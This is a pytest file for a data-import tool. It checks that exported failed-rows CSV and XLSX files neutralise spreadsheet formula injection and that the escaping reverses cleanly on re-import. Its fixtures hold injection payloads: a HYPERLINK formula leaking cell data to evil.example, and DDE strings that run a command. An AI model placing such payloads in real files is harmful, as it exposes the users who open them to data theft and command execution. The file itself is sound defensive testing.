"""Issue 14, item 6: no CSV idms writes for a person hands a spreadsheet a formula.

The failed-rows file (written after a run, by ``idms runs errors`` and by the API's
``errors.csv``) used to keep ``=HYPERLINK(…)`` and ``+cmd|…`` as they were. Every table now goes
through ``write_table``, which escapes them as query exports always did; the CSV reader takes
the escape off, so the fixed file imports back exactly; numbers (``-5``) are never changed.
"""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import httpx
import openpyxl
import pytest
from typer.testing import CliRunner

from idms.cli.app import app as cli_app
from idms.config import Settings
from idms.io.cells import FORMULA_TRIGGERS, escape_formula, unescape_formula
from idms.io.errorfile import write_error_file
from idms.jobs.model import build_job
from idms.sandbox.server import running_sandbox
from idms.server.app import create_server_app
from idms.state.tokens import TokenStore
from idms.workspace import Workspace

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
DDE = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
HANDLE = "@idms_org"
PHONE = "+44 20 7946 0000"
# (First, Last, E-mail): the e-mails are bad, so every row fails and is written back.
ROWS = [
    (HYPERLINK, DDE, "bad-1"),
    (SUM, MINUS, "bad-2"),
    (TAB, HANDLE, "bad-3"),
    ("-5", PHONE, "bad-4"),
    ("Ada", "Lovelace", "ada@example.org"),
]


def runs_as_formula(cell: str) -> bool:
    """What a spreadsheet would run: a cell beginning with = + - @ tab or CR, unless it is a
    plain number (which it reads as a number)."""
    if cell[:1] not in FORMULA_TRIGGERS:
        return False
    try:
        float(cell.replace(",", ""))
    except ValueError:
        return True
    return False


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(text.lstrip("\ufeff").splitlines(keepends=True)))


def assert_defused(text: str) -> None:
    rows = csv_cells(text)
    assert len(rows) == 5, rows  # header and the four failed rows
    dangerous = [cell for row in rows for cell in row if runs_as_formula(cell)]
    assert dangerous == []
    by_email = {row[2]: row for row in rows[1:]}
    assert by_email["bad-1"][:2] == ["'" + HYPERLINK, "'" + DDE]
    assert by_email["bad-2"][:2] == ["'" + SUM, "'" + MINUS]
    assert by_email["bad-3"][:2] == ["'" + TAB, "'" + HANDLE]
    assert by_email["bad-4"][:2] == ["-5", "'" + PHONE]  # a number is left as it is


JOB = {
    "name": "People",
    "source": "Contact",
    "action": "insert-update",
    "mappings": [
        {"field": "Email", "column": "E-mail", "match": True},
        {"field": "Title", "column": "First"},
        {"field": "FirstName", "value": "Pat"},
        {"field": "LastName", "column": "Last"},
    ],
}


def write_input(path: Path, rows: list[tuple[str, str, str]] | list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["First", "Last", "E-mail"])
        writer.writerows(rows)
    return path


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Workspace]:
    ws = Workspace.open(Settings(workspace=tmp_path / "ws", lease_seconds=2))
    try:
        yield ws
    finally:
        ws.close()


@pytest.fixture
def failed_run(workspace: Workspace, tmp_path: Path) -> tuple[str, Path]:
    """A run of :data:`ROWS`: its id and the failed-rows file written after it."""
    data = write_input(tmp_path / "people.csv", ROWS)
    report = workspace.run(build_job({**JOB, "input": {"file": str(data)}}))
    assert report.counts.errors == 4
    assert report.error_file is not None
    return report.run_id, report.error_file


def test_the_failed_rows_file_after_a_run_is_defused(failed_run: tuple[str, Path]) -> None:
    _, path = failed_run
    assert path.suffix == ".csv"
    assert_defused(path.read_text(encoding="utf-8"))


def test_runs_errors_on_the_command_line_is_defused(
    workspace: Workspace, failed_run: tuple[str, Path], tmp_path: Path
) -> None:
    run_id, _ = failed_run
    out = tmp_path / "failed.csv"
    result = CliRunner().invoke(
        cli_app,
        [
            "--workspace",
            str(workspace.settings.workspace),
            "runs",
            "errors",
            run_id,
            "-o",
            str(out),
        ],
    )
    assert result.exit_code == 0, result.output
    assert_defused(out.read_text(encoding="utf-8"))
    # XLSX cells are text, never formulas, and keep the value exactly.
    xlsx = write_error_file(workspace.runs, run_id, tmp_path / "failed.xlsx")
    sheet = openpyxl.load_workbook(xlsx).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert HYPERLINK in [c.value for c in cells]


def test_the_apis_errors_csv_is_defused(workspace: Workspace, failed_run: tuple[str, Path]) -> None:
    run_id, _ = failed_run
    _, token = TokenStore(workspace.suite).create("tests")
    app = create_server_app(workspace, None)
    with (
        running_sandbox(app) as base,
        httpx.Client(base_url=base, headers={"Authorization": f"Bearer {token}"}) as client,
    ):
        answer = client.get(f"/api/v1/runs/{run_id}/errors.csv")
    assert answer.status_code == 200, answer.text
    assert_defused(answer.content.decode("utf-8"))


def test_the_fixed_failed_rows_file_imports_back_exactly(
    workspace: Workspace, failed_run: tuple[str, Path], tmp_path: Path
) -> None:
    """A person fixes the e-mails and imports the file again: the names arrive as they were in
    the first file, without the escaping quote."""
    _, path = failed_run
    rows = csv_cells(path.read_text(encoding="utf-8"))
    fixed = [[first, last, f"{email}@example.org"] for first, last, email, _ in rows[1:]]
    again = workspace.run(
        build_job({**JOB, "input": {"file": str(write_input(tmp_path / "fixed.csv", fixed))}})
    )
    problems = [r.message for r in workspace.runs.rows(again.run_id, outcomes=["error"])]
    assert again.counts.errors == 0, problems
    with workspace.target() as target:
        stored = {r["Email"]: (r["Title"], r["LastName"]) for r in target.read("Contact")}
    for first, last, email in ROWS[:4]:
        assert stored[f"{email}@example.org"] == (first.strip(), last), email


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3", "'-2+3"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("-5", "-5"),
        ("+1.50", "+1.50"),
        ("-1,234.5", "-1,234.5"),
        ("-2e3", "-2e3"),
        ("- 5", "'- 5"),
        ("-", "'-"),
        ("'quoted'", "'quoted'"),
        ("plain", "plain"),
        ("", ""),
    ],
)
def test_the_escape_rule_and_its_inverse(text: str, written: str) -> None:
    assert escape_formula(text) == written
    assert unescape_formula(written) == text
